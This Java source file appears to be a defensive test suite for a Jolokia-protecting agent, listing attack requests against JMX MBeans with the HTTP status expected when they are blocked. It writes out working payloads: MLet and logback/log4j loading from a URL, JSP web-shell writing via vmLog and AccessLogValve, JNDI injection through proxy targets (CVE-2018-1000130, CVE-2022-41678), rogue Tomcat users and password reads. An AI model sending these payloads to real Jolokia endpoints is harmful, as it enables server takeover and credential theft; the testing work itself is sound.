package io.github.memfrag.http.attack;

import static io.github.memfrag.http.attack.Attack.Effect.CHANGES;
import static io.github.memfrag.http.attack.Attack.Effect.NOTHING;
import static io.github.memfrag.http.attack.Attack.Effect.TELLS;
import static io.github.memfrag.http.attack.Attack.get;
import static io.github.memfrag.http.attack.Attack.post;

import java.util.List;
import java.util.stream.Stream;

/** The MBeans through which services behind an open Jolokia have been robbed, and those of our own. */
final class MBeanAttacks {
    private static final String ACCESS_LOG = "'mbean':'Catalina:type=Valve,host=localhost,name=AccessLogValve'";
    private static final String LOGBACK = "'mbean':'ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator'";
    private static final String LOG4J = "'mbean':'org.apache.logging.log4j2:type=attacked'";
    private static final String RECORDER = "'mbean':'jdk.management.jfr:type=FlightRecorder'";
    private static final String DIAGNOSTIC = "'mbean':'com.sun.management:type=DiagnosticCommand'";

    private MBeanAttacks() {}

    static List<Attack> all() {
        return Stream.of(jvm(), tomcat(), loggers(), proxies(), service(), ours()).flatMap(List::stream).toList();
    }

    /** An MLet, which has classes loaded from a URL, is what every attack on plain JMX ends with (mjet, Metasploit's java_jmx_server). */
    static List<Attack> mlet() {
        return List.of(
                post("MLet loads from a URL", CHANGES, 403, exec("'mbean':'DefaultDomain:type=MLet'",
                        "getMBeansFromURL(java.lang.String)", "'http://127.0.0.1:{trap}/mlet.html'")),
                get("MLet loads from a URL, by GET", CHANGES, 403,
                        "exec/DefaultDomain:type=MLet/getMBeansFromURL(java.lang.String)/http:!/!/127.0.0.1:{trap}!/mlet.html"));
    }

    /** From laluka's jolokia-exploitation-toolkit; the recorder's is CVE-2022-41678, an ActiveMQ taken over through its Jolokia. */
    private static List<Attack> jvm() {
        return List.of(
                post("compilerDirectivesAdd", CHANGES, 403, exec(DIAGNOSTIC, "compilerDirectivesAdd", "['{dir}/conf/directives.json']")),
                get("compilerDirectivesAdd by GET", CHANGES, 403,
                        "exec/com.sun.management:type=DiagnosticCommand/compilerDirectivesAdd/{!dir}!/conf!/directives.json"),
                post("compilerDirectivesAdd tells of a file that it does not understand", TELLS, 403,
                        exec(DIAGNOSTIC, "compilerDirectivesAdd", "['{dir}/conf/password']")),
                post("jvmtiAgentLoad", NOTHING, 403, exec(DIAGNOSTIC, "jvmtiAgentLoad", "['{dir}/evil.so']")),
                get("jvmtiAgentLoad by GET", NOTHING, 403, "exec/com.sun.management:type=DiagnosticCommand/jvmtiAgentLoad/{!dir}!/evil.so"),
                post("vmLog writes a page", CHANGES, 403, exec(DIAGNOSTIC, "vmLog", "['output={dir}/shop/shell.jsp','what=gc=warning']")),
                get("vmLog by GET", CHANGES, 403,
                        "exec/com.sun.management:type=DiagnosticCommand/vmLog/output={!dir}!/shop!/get.jsp,what=gc=warning"),
                post("vmSystemProperties", TELLS, 403, exec(DIAGNOSTIC, "vmSystemProperties", "")),
                post("jfrStart writes a page", CHANGES, 403, exec(DIAGNOSTIC, "jfrStart", "['filename={dir}/shop/jfr.jsp']")),
                post("FlightRecorder writes a page", CHANGES, 403, exec(RECORDER, "newRecording", ""),
                        exec(RECORDER, "startRecording", "1"), exec(RECORDER, "copyTo", "1,'{dir}/shop/recording.jsp'")),
                post("dumpHeap", CHANGES, 403,
                        exec("'mbean':'com.sun.management:type=HotSpotDiagnostic'", "dumpHeap", "'{dir}/shop/heap.hprof',true")),
                post("setVMOption", CHANGES, 403,
                        exec("'mbean':'com.sun.management:type=HotSpotDiagnostic'", "setVMOption", "'HeapDumpOnOutOfMemoryError','true'")),
                post("the log level of java.util.logging", CHANGES, 403,
                        exec("'mbean':'java.util.logging:type=Logging'", "setLoggerLevel", "'global','FINEST'")),
                post("write to java.lang", CHANGES, 403, write("'mbean':'java.lang:type=Threading'", "ThreadCpuTimeEnabled", "false")),
                get("write to java.lang by GET", CHANGES, 403, "write/java.lang:type=Memory/Verbose/true"),
                post("collect garbage, over and over", NOTHING, 403, exec("'mbean':'java.lang:type=Memory'", "gc", "")),
                post("dump all threads", NOTHING, 403, exec("'mbean':'java.lang:type=Threading'", "dumpAllThreads", "true,true")),
                get("system properties", TELLS, 403, "read/java.lang:type=Runtime/SystemProperties"),
                get("one system property", TELLS, 403, "read/java.lang:type=Runtime/SystemProperties/application.password"));
    }

    /** From the same toolkit; the realm is from Michael Stepankin's "Exploiting Spring Boot Actuators". */
    private static List<Attack> tomcat() {
        String factory = "'mbean':'Catalina:type=MBeanFactory'";
        String users = "'mbean':'Users:type=UserDatabase,database=UserDatabase'";
        return List.of(
                post("MBeanFactory makes a context of the root directory", CHANGES, 403, exec(factory, "createStandardContext("
                        + "java.lang.String,java.lang.String,java.lang.String)", "'Catalina:type=Host,host=localhost','/all','/'")),
                get("MBeanFactory by GET", CHANGES, 403, "exec/Catalina:type=MBeanFactory/createStandardContext(java.lang.String,"
                        + "java.lang.String,java.lang.String)/Catalina:type=Host,host=localhost/!/get/!/"),
                post("MBeanFactory makes a realm that asks a foreign directory", CHANGES, 403,
                        exec(factory, "createJNDIRealm", "'Catalina:type=Engine'"),
                        write("'mbean':'Catalina:type=Realm,realmPath=/realm0'", "contextFactory",
                                "'com.sun.jndi.rmi.registry.RegistryContextFactory'"),
                        write("'mbean':'Catalina:type=Realm,realmPath=/realm0'", "connectionURL", "'rmi://127.0.0.1:{trap}/x'"),
                        exec("'mbean':'Catalina:type=Realm,realmPath=/realm0'", "start", "")),
                post("MBeanFactory makes a host", CHANGES, 403, exec(factory, "createStandardHost",
                        "'Catalina:type=Engine','evil','{dir}',true,true,true,true")),
                post("AccessLogValve moves its file, where it has one open", NOTHING, 403, exec(ACCESS_LOG, "rotate",
                        "'{dir}/shop/log.jsp'")),
                post("AccessLogValve writes a page", CHANGES, 403,
                        write(ACCESS_LOG, "directory", "'../shop'"), write(ACCESS_LOG, "prefix", "'shell'"),
                        write(ACCESS_LOG, "suffix", "'.jsp'"), write(ACCESS_LOG, "fileDateFormat", "''"),
                        write(ACCESS_LOG, "pattern", "'%{evil}i'")),
                get("AccessLogValve's prefix by GET", CHANGES, 403,
                        "write/Catalina:type=Valve,host=localhost,name=AccessLogValve/prefix/..!/shop!/shell"),
                post("UserDatabase makes a user", CHANGES, 403, exec(users, "createUser", "'evil','evil','evil'")),
                get("UserDatabase makes a user, by GET", CHANGES, 403,
                        "exec/Users:type=UserDatabase,database=UserDatabase/createUser/get/get/get"),
                post("UserDatabase makes a role", CHANGES, 403, exec(users, "createRole", "'manager-script','evil'")),
                post("a user's password is read", TELLS, 403,
                        "{'type':'read','mbean':'Users:type=User,username=\"admin\",database=UserDatabase'}".replace("\"", "\\\"")),
                post("a user's password is written", CHANGES, 403,
                        write("'mbean':'Users:type=User,username=\\\"admin\\\",database=UserDatabase'", "password", "'evil'")),
                post("a host's pages come from elsewhere", CHANGES, 403, write("'mbean':'Catalina:type=Host,host=localhost'",
                        "appBase", "'/'")),
                get("sessions are listed", NOTHING, 403, "exec/Catalina:type=Manager,host=localhost,context=!/shop/listSessionIds"));
    }

    /** reloadByURL is from "Exploiting Spring Boot Actuators" too, setConfigText the other half of CVE-2022-41678. */
    private static List<Attack> loggers() {
        return List.of(
                post("logback reloadByURL", CHANGES, 403, exec(LOGBACK, "reloadByURL", "'http://127.0.0.1:{trap}/logback.xml'")),
                get("logback reloadByURL by GET", CHANGES, 403, "exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx."
                        + "JMXConfigurator/reloadByURL/http:!/!/127.0.0.1:{trap}!/logback.xml"),
                post("logback reloadByFileName", CHANGES, 403, exec(LOGBACK, "reloadByFileName", "'{dir}/conf/logback.xml'")),
                post("logback setLoggerLevel", CHANGES, 403, exec(LOGBACK, "setLoggerLevel", "'ROOT','ERROR'")),
                post("a log4j logger's level", CHANGES, 403,
                        write("'mbean':'org.apache.logging.log4j2:type=attacked,component=Loggers,name=shop'", "Level", "'TRACE'")),
                post("log4j setConfigText", CHANGES, 403, exec(LOG4J, "setConfigText", "'<Configuration name=\\\"evil\\\"><Loggers>"
                        + "<Root level=\\\"ERROR\\\"/></Loggers></Configuration>','UTF-8'")),
                post("log4j's configuration comes from a file", CHANGES, 403, write(LOG4J, "ConfigLocationUri",
                        "'file:{dir}/conf/log4j2.xml'")),
                post("log4j's configuration comes from a URL", CHANGES, 403,
                        write(LOG4J, "ConfigLocationUri", "'http://127.0.0.1:{trap}/log4j2.xml'")),
                post("log4j tells its configuration", NOTHING, 403, exec(LOG4J, "getConfigText(java.lang.String)", "'UTF-8'")));
    }

    /** CVE-2018-1000130: JNDI injection through a proxy's target. */
    private static List<Attack> proxies() {
        String target = "{'type':'read','mbean':'java.lang:type=Memory','target':";
        return List.of(
                post("proxy to JNDI over RMI", NOTHING, 403, target + "{'url':'service:jmx:rmi:///jndi/rmi://127.0.0.1:{trap}/x'}}"),
                post("proxy to JNDI over LDAP", NOTHING, 403, target + "{'url':'service:jmx:rmi:///jndi/ldap://127.0.0.1:{trap}/x'}}"),
                post("proxy with a password", NOTHING, 403,
                        target + "{'url':'service:jmx:rmi://127.0.0.1:{trap}/','user':'u','password':'p'}}"),
                post("proxy to an unknown protocol", NOTHING, 403, target + "{'url':'service:jmx:evil://127.0.0.1:{trap}/'}}"),
                post("proxy whose target is no object", NOTHING, 403, target + "'service:jmx:rmi:///jndi/rmi://127.0.0.1:{trap}/x'}"),
                post("proxy whose target is null", NOTHING, 403, target + "null}"),
                post("proxy to what we may read", NOTHING, 403, "{'type':'read','mbean':'memfrag:type=Agent','attribute':'Version',"
                        + "'target':{'url':'service:jmx:rmi:///jndi/rmi://127.0.0.1:{trap}/x'}}"),
                post("proxy within a bulk", NOTHING, 200, "[{'type':'version'}," + target
                        + "{'url':'service:jmx:rmi:///jndi/rmi://127.0.0.1:{trap}/x'}}]"),
                get("proxy by GET", NOTHING, 403,
                        "read/java.lang:type=Runtime?target=service:jmx:rmi:!/!/!/jndi!/rmi:!/!/127.0.0.1:{trap}!/x"),
                get("proxy by GET, as Jolokia 2 has it", NOTHING, 400,
                        "proxy/service:jmx:rmi:!/!/!/jndi!/rmi:!/!/127.0.0.1:{trap}!/x/read/java.lang:type=Memory"));
    }

    private static List<Attack> service() {
        return List.of(
                post("an operation of the service's own", CHANGES, 403,
                        exec("'mbean':'memfrag.example:type=Vault'", "store", "'{dir}/shop/stored'")),
                get("an operation of the service's own, by GET", CHANGES, 403, "exec/memfrag.example:type=Vault/store/{!dir}!/shop!/got"),
                post("an attribute of the service's own", CHANGES, 403, write("'mbean':'memfrag.example:type=Vault'", "Content",
                        "'posted'")),
                get("an attribute of the service's own, by GET", CHANGES, 403, "write/memfrag.example:type=Vault/Content/got"),
                get("everything is listed", TELLS, 200, "list"),
                get("a domain is listed", TELLS, 403, "list/com.example"),
                post("a domain is listed by POST", TELLS, 403, "{'type':'list','path':'com.example'}"),
                get("everything is searched", TELLS, 200, "search/*:*"),
                get("all of a domain is searched", TELLS, 403, "search/com.example:*"),
                get("all of a type is searched", TELLS, 200, "search/*:type=Vault,*"),
                get("all attributes of all MBeans are read", TELLS, 200, "read/*:*?maxDepth=3&ignoreErrors=true"),
                get("one attribute of all MBeans is read", TELLS, 404, "read/*:type=Vault,*/Content"),
                get("one attribute of a domain's MBeans is read", TELLS, 403, "read/com.exampl%3F:*/Content"),
                get("errors name MBeans", TELLS, 404, "read/*:type=Vault,*/NoSuch"),
                get("the MBean server tells of itself", NOTHING, 403, "read/JMImplementation:type=MBeanServerDelegate"));
    }

    private static List<Attack> ours() {
        return List.of(
                post("write to an MBean of ours", NOTHING, 403, write("'mbean':'memfrag:type=Agent'", "Version", "'evil'")),
                get("write to an MBean of ours by GET", NOTHING, 403, "write/memfrag:type=Agent/Version/evil"),
                get("a cure by GET", NOTHING, 403, "exec/memfrag:type=Relief/dropCaches/3"),
                get("a cure by GET, with its signature", NOTHING, 403, "exec/memfrag:type=Relief/dropCaches(int)/3"),
                get("notifications are registered for", NOTHING, 400, "notification/register"),
                post("notifications are listened to", NOTHING, 400, "{'type':'notification','command':'register'}",
                        "{'type':'notification','command':'add','client':'x','mode':'pull','mbean':'memfrag:type=Events'}"),
                post("a method of Object", NOTHING, 400, exec("'mbean':'memfrag:type=Relief'", "getClass", "")),
                post("a method of the bean that is no operation", NOTHING, 400, exec("'mbean':'memfrag:type=Relief'", "preDeregister", "")),
                post("history is kept", NOTHING, 403, exec("'mbean':'jolokia:type=Config'", "setHistoryEntriesForAttribute",
                        "'java.lang:type=Memory','HeapMemoryUsage','','',1000000")),
                post("Jolokia's own debug mode", NOTHING, 403, write("'mbean':'jolokia:type=Config'", "Debug", "true")));
    }

    static String exec(String mbean, String operation, String arguments) {
        return "{'type':'exec'," + mbean + ",'operation':'" + operation + "','arguments':[" + arguments + "]}";
    }

    static String write(String mbean, String attribute, String value) {
        return "{'type':'write'," + mbean + ",'attribute':'" + attribute + "','value':" + value + "}";
    }
}
